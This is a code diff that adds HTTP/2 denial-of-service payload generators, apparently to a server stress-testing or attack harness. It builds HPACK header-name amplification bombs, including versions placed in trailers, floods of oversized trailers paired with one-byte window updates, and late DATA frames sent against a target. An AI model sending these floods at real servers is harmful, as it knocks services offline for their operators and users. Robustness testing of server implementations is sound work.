@@ -114,6 +114,28 @@ def _bombs(fields: int, size: int):
 header_bomb_too_large = _bombs(2000, 3900)
 
 
+
+
+def _post(stream):
+    return frame(HEADERS, END_HEADERS, stream, block("/small", method="POST"))
+
+
+# A name of two kilobytes that is sent once, then put into the table again with every two bytes.
+_LONG_NAME = frame(HEADERS, END_HEADERS | END_STREAM, 1, block("/small") + b"\x40\x7f\xf1\x0e" + b"a" * 2032 + b"\0")
+_COPIES = b"\x7e\0" * 8000
+name_bombs = _flood(lambda connection: b"".join(
+    frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, block("/small") + _COPIES) for stream in _streams(connection)),
+    also=_LONG_NAME)
+name_bombs_in_trailers = _flood(lambda connection: b"".join(
+    _post(stream + 2) + frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, _COPIES) for stream in _streams(connection)),
+    also=_LONG_NAME)
+# More trailers than may be, of one byte each: what was begun for them was begun for nothing.
+trailers_too_large = _flood(_each_stream(
+    _post, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x90" * 101),
+    lambda stream: window_update(stream, 1)))
+late_data = _flood(_again(frame(DATA, END_STREAM, 1)), also=_small(1))
+
+
 def header_bomb(target, count):
     """100 streams of 32 KiB heads each, for a few hundred bytes, and answers that can't be sent."""
     opening, bomb = _bomb(7, 3900)
